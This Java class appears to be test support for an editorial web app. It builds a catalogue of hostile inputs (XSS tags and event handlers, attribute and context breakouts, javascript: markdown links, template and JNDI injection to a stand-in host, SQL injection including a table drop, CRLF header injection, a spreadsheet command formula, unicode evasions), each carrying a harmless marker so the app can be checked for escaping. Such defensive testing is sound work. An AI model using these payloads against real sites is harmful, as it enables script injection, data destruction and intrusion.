package no.pmto.editorial;

import java.util.ArrayList;
import java.util.List;

/**
 * What somebody may write who wants the page to do something. Each has a mark of its own
 * where markup or a script would come to life.
 */
final class HostileTexts {

	private static final List<String> TAGS = List.of("<script>%s</script>", "<ScRiPt>%s</sCrIpT>",
			"<script\n>%s</script\n>", "<script/x>%s</script>", "<<script>%s//<</script>",
			"<script src=//x.example/%s>", "<img src=x onerror=%s>", "<img/src=x/onerror=%s>",
			"<img src=x onerror=\"%s\">", "<IMG SRC=x ONERROR=%s>", "<img src=x:x onerror\n=%s>",
			"<img src=`x` onerror=%s>", "<svg onload=%s>", "<svg/onload=%s>", "<svg><script>%s</script></svg>",
			"<svg><animate onbegin=%s attributeName=x dur=1s>",
			"<svg><a xlink:href=\"javascript:%s\"><text>x</text></a></svg>",
			"<svg><use href=\"data:image/svg+xml,%s\"/>", "<svg><foreignObject><body onload=%s></foreignObject></svg>",
			"<math><mi xlink:href=\"javascript:%s\">x</mi>", "<body onload=%s>",
			"<iframe src=\"javascript:%s\"></iframe>", "<iframe srcdoc=\"<script>%s</script>\">",
			"<object data=\"javascript:%s\">", "<embed src=\"javascript:%s\">", "<base href=\"//x.example/%s\">",
			"<link rel=stylesheet href=\"//x.example/%s\">",
			"<meta http-equiv=refresh content=\"0;url=//x.example/%s\">", "<style>@import '//x.example/%s';</style>",
			"<p style=\"background:url(//x.example/%s)\">x</p>",
			"<form action=\"//x.example/%s\"><button>x</button></form>",
			"<button formaction=\"javascript:%s\">x</button>", "<input onfocus=%s autofocus>",
			"<select onfocus=%s autofocus>", "<textarea onfocus=%s autofocus>", "<details open ontoggle=%s>x</details>",
			"<video><source onerror=%s></video>", "<audio src=x onerror=%s>", "<marquee onstart=%s>x</marquee>",
			"<a href=\"javascript:%s\">x</a>", "<a href=\"JaVaScRiPt:%s\">x</a>", "<a href=\"java\tscript:%s\">x</a>",
			"<a href=\"&#106;avascript:%s\">x</a>", "<a href=\"data:text/html,%s\">x</a>", "<a onmouseover=%s>x</a>",
			"<div onpointerenter=%s>x</div>", "<x onclick=%s tabindex=1>x</x>", "<x contenteditable onblur=%s>x</x>",
			"<template><script>%s</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
			"<!--><img src=x onerror=%s>-->", "<![CDATA[<img src=x onerror=%s>]]>",
			"<?xml version=\"1.0\"?><img src=x onerror=%s>", "<%s", "<b>%s</b>");

	private static final List<String> BREAKS = List.of("\"><script>%s</script>", "'><script>%s</script>",
			"\" onmouseover=%s x=\"", "' onmouseover=%s x='", "\" autofocus onfocus=%s \"", "` onmouseover=%s x=`",
			"</textarea><script>%s</script>", "</title><script>%s</script>", "</option></select><script>%s</script>",
			"</script><script>%s</script>", "</style><script>%s</script>", "--><script>%s</script>",
			"]]><script>%s</script>", "</pre><img src=x onerror=%s>", "</code></p><img src=x onerror=%s>", "';%s;//",
			"\";%s;//", "\\\";%s;//", "\\x3cscript\\x3e%s\\x3c/script\\x3e", "\\u003cscript\\u003e%s");

	private static final List<String> MARKDOWN = List.of("[x](javascript:%s)", "[x](JAVASCRIPT:%s)",
			"[x](java\nscript:%s)", "[x](&#106;avascript:%s)", "[x](data:text/html;base64,%s)", "![x](javascript:%s)",
			"![x\" onerror=%s](y)", "[x]: javascript:%s\n\n[x]", "<javascript:%s>", "[x](y \"z\" onmouseover=%s)",
			"```\n<script>%s</script>\n```", "    <script>%s</script>", "> <img src=x onerror=%s>",
			"# <img src=x onerror=%s>", "- <img src=x onerror=%s>", "|<img src=x onerror=%s>|\n|-|",
			"[x](vbscript:%s)");

	private static final List<String> TEMPLATES = List.of("${7*7}%s", "#{7*7}%s", "*{7*7}%s", "@{${7*7}}%s",
			"[[${7*7}]]%s", "[(${7*7})]%s", "__${7*7}__::%s", "__${T(java.lang.Runtime)}__::%s.x", "~{%s :: x}",
			"{{7*7}}%s", "<%%= 7*7 %%>%s", "{0}%s", "%s'{0}''", "${jndi:ldap://x.example/%s}", "%s' or '1'='1",
			"'; drop table audit_entry; --%s");

	private static final List<String> SIGNS = List.of("&lt;script&gt;%s&lt;/script&gt;", "&#60;script&#62;%s",
			"&amp;lt;script&amp;gt;%s", "%%3Cscript%%3E%s", "\u0000<script>%s</script>", "<scr\u0000ipt>%s</script>",
			"\r\nSet-Cookie: x=%s", "\r\n\r\n<script>%s</script>", "\uFF1Cscript\uFF1E%s", "\u202E<script>%s</script>",
			"\u200B<script>%s</script>", "\uFEFF<script>%s</script>", "\uD83D\uDE00<script>%s</script>",
			"<script\u2028>%s</script>", "<\u017Fcript>%s</script>", "\u2039script\u203A%s",
			"e\u0301<img src=x onerror=%s>", "+ADw-script+AD4-%s", "=cmd|' /C calc'!%s",
			"\t\u000B\u000C<script>%s</script>");

	private HostileTexts() {
	}

	/** All of them, each with this mark. */
	static List<String> with(String mark) {
		List<String> all = new ArrayList<>();
		List.of(TAGS, BREAKS, MARKDOWN, TEMPLATES, SIGNS)
			.forEach((some) -> some.forEach((text) -> all.add(text.formatted(mark))));
		return all;
	}

}
